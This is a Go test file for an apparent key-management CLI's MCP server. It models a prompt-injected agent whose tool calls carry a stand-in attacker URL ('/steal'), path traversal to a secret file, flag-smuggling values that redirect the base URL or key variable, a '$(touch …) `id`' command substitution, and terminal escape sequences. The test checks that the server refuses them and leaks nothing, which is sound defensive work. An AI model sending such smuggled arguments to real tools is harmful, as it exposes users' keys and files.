package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/keydoctor/keydoctor/internal/mock"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// The MCP server faces a prompt-injected agent: every argument it may
// send names an attacker's URL, a file, another variable, a huge text or
// terminal controls. Whatever it sends, no request leaves loopback for
// anywhere but the user's own gateway, no key shows in any result, and
// no file under the home changes.

const mcpCanary = "sk-canary-7f3a9c1e5b2d4a6f8e0c"

// evilListener counts every request sent to it: the attacker's "server"
// the arguments name, and the proxy every request that tries to leave
// loopback goes through. A connection that sends nothing is doctor
// checking that the configured proxy listens: not a request.
func evilListener(t *testing.T) (addr string, hits *atomic.Int64) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	hits = new(atomic.Int64)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				c.SetReadDeadline(time.Now().Add(10 * time.Second))
				if n, _ := c.Read(make([]byte, 1)); n > 0 {
					hits.Add(1)
				}
			}()
		}
	}()
	return ln.Addr().String(), hits
}

// hashTree is every file, directory and link under root with its mode
// and content, one line each.
func hashTree(t *testing.T, root string) string {
	var b strings.Builder
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := os.Lstat(p)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		sum := ""
		if fi.Mode().IsRegular() {
			data, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			sum = fmt.Sprintf("%x", sha256.Sum256(data))
		}
		fmt.Fprintf(&b, "%s %v %s\n", rel, fi.Mode(), sum)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestMCPHostileAgent(t *testing.T) {
	gw, err := mock.Start(context.Background(), "127.0.0.1:0", mock.Options{Prefix: "/api", Key: mcpCanary})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { gw.Close() })
	evil, hits := evilListener(t)
	evilURL := "http://" + evil + "/steal"
	forEachUser(t, func(t *testing.T, u binUser) {
		h := newUserHome(t, u)
		h.Env = []string{"TAOTOKEN_API_KEY=" + mcpCanary, "OTHER_SECRET=sk-other-00000000000000000beef",
			// Anything that tries to leave loopback reaches the evil proxy.
			"HTTP_PROXY=http://" + evil, "HTTPS_PROXY=http://" + evil, "ALL_PROXY=http://" + evil, "NO_PROXY=" + gw.Addr()}
		if r := h.Run("setup", "--yes", "--base-url", gw.Root(), "--model", "gpt-4o", "--tools", "claude,codex,env"); r.Code != 0 {
			t.Fatalf("setup: %d\n%s%s", r.Code, r.Stdout, r.Stderr)
		}
		h.WriteFile("secret.txt", "do not read "+mcpCanary+"\n", 0o600)
		before := hashTree(t, h.Home)

		cmd := h.Command("mcp")
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		client := mcp.NewClient(&mcp.Implementation{Name: "hostile", Version: "1"}, nil)
		cs, err := client.Connect(ctx, &mcp.CommandTransport{Command: cmd}, nil)
		if err != nil {
			t.Fatalf("connect: %v\n%s", err, stderr.String())
		}
		tools, err := cs.ListTools(ctx, nil)
		if err != nil {
			t.Fatal(err)
		}
		var names []string
		for _, tl := range tools.Tools {
			names = append(names, tl.Name)
		}
		if got := strings.Join(names, ","); got != "bench,doctor,explain,fix_plan,ping,status" {
			t.Errorf("tools = %s", got)
		}
		huge := strings.Repeat("\x1b]52;c;"+evilURL+"\a\x1b[2J\u202e 401 ", 4000) // ~150 KB
		calls := []struct {
			tool    string
			args    map[string]any
			refused bool // the call must be an error result
		}{
			{"status", nil, false},
			{"doctor", map[string]any{}, false},
			{"doctor", map[string]any{"wire": true, "tool": "claude"}, false},
			{"ping", map[string]any{"tool": "claude"}, false},
			{"ping", map[string]any{"protocol": "chat"}, false},
			{"bench", map[string]any{"requests": 2}, false},
			{"fix_plan", map[string]any{}, false},
			{"explain", map[string]any{"query": "the model may not exist or you may not have access to it"}, false},
			// Fields no tool has: refused by the schema.
			{"ping", map[string]any{"url": evilURL}, true},
			{"ping", map[string]any{"base_url": evilURL, "protocol": "chat"}, true},
			{"doctor", map[string]any{"project": "/", "file": h.Path("secret.txt")}, true},
			{"status", map[string]any{"key_env": "OTHER_SECRET"}, true},
			{"bench", map[string]any{"against": evilURL}, true},
			// Values that are no tool, profile or protocol.
			{"ping", map[string]any{"tool": "claude --base-url " + evilURL}, true},
			{"doctor", map[string]any{"tool": "../../secret.txt"}, true},
			{"status", map[string]any{"profile": "taotoken --key-env OTHER_SECRET"}, true},
			{"ping", map[string]any{"protocol": "chat --base-url=" + evilURL}, true},
			{"ping", map[string]any{"tool": "claude", "protocol": "chat"}, true},
			{"bench", map[string]any{"requests": 1000000}, true},
			{"bench", map[string]any{"requests": -1}, true},
			{"doctor", map[string]any{"wire": "yes"}, true},
			// Pasted text: flags, a command substitution, controls, huge.
			{"explain", map[string]any{"query": "--base-url " + evilURL + " --key-env OTHER_SECRET"}, true}, // explains nothing
			{"explain", map[string]any{"query": "$(touch " + h.Path("pwned") + ") `id` 401"}, false},
			{"explain", map[string]any{"query": huge}, false},
			{"explain", map[string]any{"query": "\x1b[2J\x07\x00"}, true},
		}
		for _, c := range calls {
			res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: c.tool, Arguments: c.args})
			label := fmt.Sprintf("%s %v", c.tool, clipArgs(c.args))
			if err != nil {
				t.Errorf("%s: protocol error %v", label, err)
				continue
			}
			raw, _ := json.Marshal(res)
			text := ""
			for _, ct := range res.Content {
				if tc, ok := ct.(*mcp.TextContent); ok {
					text += tc.Text
				}
			}
			if strings.Contains(string(raw), mcpCanary[4:len(mcpCanary)-4]) {
				t.Errorf("%s: the key is in the result:\n%s", label, raw)
			}
			if strings.ContainsAny(text, "\x1b\x07\x00\u202e") {
				t.Errorf("%s: a control reaches the model's text: %q", label, text)
			}
			if strings.Contains(text, "do not read") || strings.Contains(string(raw), "do not read") {
				t.Errorf("%s: a file's content is in the result", label)
			}
			if res.IsError != c.refused {
				t.Errorf("%s: IsError = %v, want %v:\n%s", label, res.IsError, c.refused, text)
			}
			if !c.refused && res.StructuredContent == nil {
				t.Errorf("%s: no document:\n%s", label, text)
			}
		}
		cs.Close()
		if n := hits.Load(); n != 0 {
			t.Errorf("%d request(s) reached the attacker's address", n)
		}
		if after := hashTree(t, h.Home); after != before {
			t.Errorf("the home changed:\nbefore:\n%s\nafter:\n%s", before, after)
		}
		if strings.Contains(stderr.String(), mcpCanary[4:len(mcpCanary)-4]) {
			t.Errorf("the key is on the server's stderr:\n%s", stderr.String())
		}
	})
}

func clipArgs(a map[string]any) string {
	s := fmt.Sprint(a)
	if len(s) > 80 {
		s = s[:80] + "…"
	}
	return s
}

// After setup --mcp, doctor starts each entry (this very binary) and
// sees it answer the MCP handshake and list its tools.
func TestMCPDoctorStartsEntry(t *testing.T) {
	forEachUser(t, func(t *testing.T, u binUser) {
		gw, err := mock.Start(context.Background(), "127.0.0.1:0", mock.Options{Prefix: "/api", Key: mcpCanary})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { gw.Close() })
		h := newUserHome(t, u)
		h.Env = []string{"TAOTOKEN_API_KEY=" + mcpCanary}
		if r := h.Run("setup", "--yes", "--offline", "--mcp", "--base-url", gw.Root(), "--model", "gpt-4o", "--tools", "claude,codex"); r.Code != 0 {
			t.Fatalf("setup: %d\n%s%s", r.Code, r.Stdout, r.Stderr)
		}
		r := h.Run("doctor", "--offline", "--json")
		var rep struct {
			Findings []struct{ Check, Status, Tool, Message string }
		}
		if err := json.Unmarshal([]byte(r.Stdout), &rep); err != nil {
			t.Fatalf("%v\n%s%s", err, r.Stdout, r.Stderr)
		}
		started := map[string]bool{}
		for _, f := range rep.Findings {
			if f.Check == "mcp-server" && f.Status == "ok" && strings.Contains(f.Message, "starts and lists 6 tools (bench, doctor, explain, fix_plan, ping, status)") {
				started[f.Tool] = true
			}
		}
		if !started["claude"] || !started["codex"] {
			t.Errorf("started %v, want claude and codex:\n%s", started, r.Stdout)
		}
		if strings.Contains(r.Stdout+r.Stderr, mcpCanary[4:len(mcpCanary)-4]) {
			t.Error("the key is in doctor's output")
		}
	})
}
